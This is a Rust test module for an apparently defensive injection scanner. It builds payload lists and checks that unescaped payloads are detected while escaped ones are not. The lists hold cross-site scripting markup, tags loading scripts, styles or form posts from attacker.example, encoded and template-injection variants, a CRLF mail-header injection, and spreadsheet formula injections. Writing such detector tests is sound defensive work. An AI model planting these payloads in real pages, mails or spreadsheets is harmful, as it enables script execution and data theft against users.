//! What people could write to make a page, a mail or a file do something, and how it shows that one did.

use std::collections::BTreeSet;

use super::{EVIL, markup::tags, policy::faults};

/// Markup that runs, loads, leads away or looks like ours.
const MARKUP: [&str; 18] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=//attacker.example/a.js></script></svg>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=javascript:alert(1)>a</a>",
    "<form action=//attacker.example/><input name=a>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=\"0;url=//attacker.example/\">",
    "<link rel=stylesheet href=//attacker.example/a.css>",
    "<style>*{background:url(//attacker.example/)}</style>",
    "<object data=//attacker.example/></object>",
    "<b style=color:red>a</b>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus x='",
    "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<img/src=\"x\"/onerror=alert(1)>",
];
/// What is markup, or something else, only to who reads it once more.
const OTHER: [&str; 6] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "%0d%0aBcc: a@attacker.example",
];
/// What ends the text before it.
const BREAKS: [&str; 5] = ["", "\">", "'>", "</textarea>", "</title></script>-->"];
/// What a spreadsheet would compute, at the beginning of a cell.
const FORMULAS: [&str; 4] = ["=HYPERLINK(\"//attacker.example\")", "@SUM(1+1)", "+1+1", "-1+1"];
/// Stands in every text, and nowhere else.
pub const MARK: &str = "zq9";

/// All of them.
pub fn payloads() -> Vec<String> {
    let words = || MARKUP.into_iter().chain(OTHER);
    BREAKS.into_iter().flat_map(|end| words().map(move |word| format!("{end}{word}"))).collect()
}

/// All of them in a few texts, each of which begins a formula.
pub fn texts() -> Vec<String> {
    let all = payloads();
    let parts = all.chunks(all.len() / FORMULAS.len()).zip(FORMULAS);
    parts.map(|(part, formula)| format!("{formula} {MARK} {}", part.join(" "))).collect()
}

/// As long, and nothing but words.
pub fn harmless(text: &str) -> String {
    "plain words ".chars().cycle().take(text.chars().count()).collect()
}

/// Kinds of tags, and of attributes on them.
pub type Parts = BTreeSet<(String, String)>;

/// What a document is made of.
pub fn parts(html: &str) -> Parts {
    let mut parts = Parts::new();
    for tag in tags(html) {
        parts.insert((tag.name.clone(), String::new()));
        parts.extend(tag.attributes.iter().map(|(key, _)| (tag.name.clone(), key.clone())));
    }
    parts
}

/// What a document has that is not made of these parts, or leads to another place.
pub fn strange(html: &str, known: &Parts) -> Vec<String> {
    let leads = |value: &str| {
        let value = value.trim().to_ascii_lowercase();
        value.contains(EVIL) && ["//", "http:", "https:"].iter().any(|start| value.starts_with(start))
    };
    let away = tags(html).into_iter().filter(|tag| {
        let ways = ["href", "src", "action", "formaction", "data", "content", "srcdoc"];
        ways.iter().any(|name| tag.attribute(name).is_some_and(leads))
    });
    let new = parts(html).difference(known).map(|part| format!("{part:?}")).collect::<Vec<_>>();
    new.into_iter().chain(away.map(|tag| format!("{tag:?}"))).collect()
}

/// The same of a page, with what its policy would keep from running.
pub fn findings(html: &str, nonce: &str, known: &Parts) -> Vec<String> {
    faults(html, nonce).into_iter().chain(strange(html, known)).collect()
}

/// Whether a spreadsheet would compute a cell.
pub fn is_formula(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
    let number = cell.parse::<f64>().is_ok();
    !number && shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn what_is_not_escaped_is_found() {
    let page = |text: &str, other: &str| {
        format!("<p>{text}</p><input value=\"{text}\"><input value='{other}'><textarea>{text}</textarea>")
    };
    let known = parts(&page("plain words", "plain words"));
    let all = payloads();
    assert_eq!(all.len(), 120);
    let found = all.iter().filter(|text| !findings(&page(text, text), "n", &known).is_empty()).count();
    assert!(found >= 85, "{found} of 90 that are markup");
    let escaped = |text: &str| {
        let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
        text.replace('"', "&quot;").replace('\'', "&#39;")
    };
    for text in &all {
        let text = escaped(text);
        assert_eq!(findings(&page(&text, &text), "n", &known), Vec::<String>::new(), "{text}");
    }
    assert!(FORMULAS.iter().all(|text| is_formula(text)) && !is_formula("'=1+1") && !is_formula("-7.50"));
}
